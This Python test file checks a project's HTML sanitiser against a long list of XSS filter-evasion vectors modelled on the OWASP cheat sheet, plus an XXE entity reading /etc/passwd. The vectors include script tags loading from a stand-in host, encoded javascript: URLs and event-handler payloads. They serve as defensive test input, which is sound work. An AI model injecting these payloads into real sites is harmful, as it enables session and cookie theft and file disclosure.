"""The sanitiser against XSS filter-evasion vectors (after the OWASP cheat sheet; written for this project).

Every vector must come out as well-formed XHTML with only allowed elements and attributes, no event
handler, no style, and no URL that could run script.
"""

from __future__ import annotations

import re

import nh3
import pytest
from lxml import etree
from lxml import html as lxml_html

from newsfmt import clean_html

ALLOWED_TAGS = frozenset(
    str.split(
        "a abbr audio b bdi bdo blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption "
        "figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p picture pre q rp rt ruby s samp small source span "
        "strong sub sup table tbody td tfoot th thead time tr u ul var video wbr"
    )
)
URL_ATTRIBUTES = {"href", "src", "cite", "poster"}
SAFE_SCHEMES = re.compile(r"(https?|mailto|ftp|tel|urn|news|ircs?|xmpp):", re.IGNORECASE)
SAFE_DATA = re.compile(r"data:image/(png|gif|jpe?g|webp|avif|bmp)[;,]", re.IGNORECASE)

VECTORS = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    '&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
    "&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+'
    'YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<A HREF=\"javascript:document.location='http://www.example.com/'\">XSS</A>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<video poster=javascript:alert(1)//></video>",
    '<img srcset="javascript:alert(1) 1x, x.png 2x">',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<div style="-moz-binding:url(http://xss.example/xss.xml#xss)">x</div>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="/" =_=" title="onerror=\'prompt(1)\'">',
    "<a href='javas\u0000cript:alert(1)'>x</a>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<details open ontoggle="alert(1)">x</details>',
    "<template><script>alert(1)</script></template>",
    "<a href='vbscript&#x3A;msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="x" onerror ="alert(1)" ONERROR="alert(2)" OnError="alert(3)">',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><p>&xxe;</p>',
]


def _scheme_ok(name: str, value: str, tag: str) -> bool:
    if name == "srcset":
        return all(_scheme_ok("src", candidate.split()[0], tag) for candidate in value.split(",") if candidate)
    compact = re.sub(r"[\x00-\x20]", "", value)
    if ":" not in compact.split("/", 1)[0]:
        return True
    if SAFE_SCHEMES.match(compact):
        return True
    return tag == "img" and name == "src" and SAFE_DATA.match(compact) is not None


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_vector_is_neutralised(vector: str) -> None:
    html = clean_html(vector, base_url="https://example.org/post.html").html
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    root = etree.fromstring(f"<div>{html}</div>", parser)
    assert "<script" not in html.lower()
    assert "<!--" not in html
    for element in root.iterdescendants():
        assert isinstance(element.tag, str), f"{element!r} in {html!r}"
        assert element.tag in ALLOWED_TAGS, f"{element.tag} in {html!r}"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{name} in {html!r}"
            assert name not in ("style", "background", "dynsrc", "lowsrc", "formaction", "action", "srcdoc")
            if name in URL_ATTRIBUTES or name == "srcset":
                assert _scheme_ok(name, value, element.tag), f"{name}={value!r} in {html!r}"
    assert "/etc/passwd" not in html


def test_safe_content_survives_the_vectors() -> None:
    html = clean_html(
        '<p>Keep <a href="https://example.org/a?b=1&amp;c=2">this link</a> and <img src="/i.png" alt="this">.</p>'
        '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p>',
        base_url="https://example.org/post.html",
    ).html
    assert '<a href="https://example.org/a?b=1&amp;c=2">this link</a>' in html
    assert '<img src="https://example.org/i.png" alt="this"/>' in html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html


def test_escaped_markup_stays_text() -> None:
    result = clean_html("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert result.html == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert result.text == "<script>alert(1)</script>"


def test_external_entity_is_never_resolved() -> None:
    result = clean_html('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><p>a&xxe;b</p>')
    assert "file:" not in result.html
    # As a browser shows it: the doctype ends at the first ">", what follows is text.
    assert result.text == "]>\n\na&xxe;b"


_TABLE_WRAPPERS = {"tbody", "tr"}  # html5ever adds them around stray cells; libxml2 does not


def _shape(fragment: str) -> list[tuple[str, list[tuple[str, str]]]]:
    root = lxml_html.fragment_fromstring(fragment or "<i></i>", create_parent="div")
    return [(str(e.tag), sorted(e.attrib.items())) for e in root.iter() if e.tag not in _TABLE_WRAPPERS]


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_ammonia_finds_nothing_left_to_remove(vector: str) -> None:
    """Differential check: nh3 (ammonia), allowing what newsfmt allows, keeps our output as it is."""
    ours = clean_html(vector, base_url="https://example.org/post.html").html
    theirs = nh3.clean(
        ours,
        tags=nh3.ALLOWED_TAGS | {"video", "audio", "source", "picture"},
        attributes={
            **nh3.ALLOWED_ATTRIBUTES,
            "a": {"href", "title"},
            "img": {"src", "alt", "width", "height", "srcset", "title"},
            "video": {"src", "poster", "controls"},
        },
        url_schemes=nh3.ALLOWED_URL_SCHEMES | {"data", "tel"},
        link_rel=None,
    )
    assert _shape(theirs) == _shape(ours)
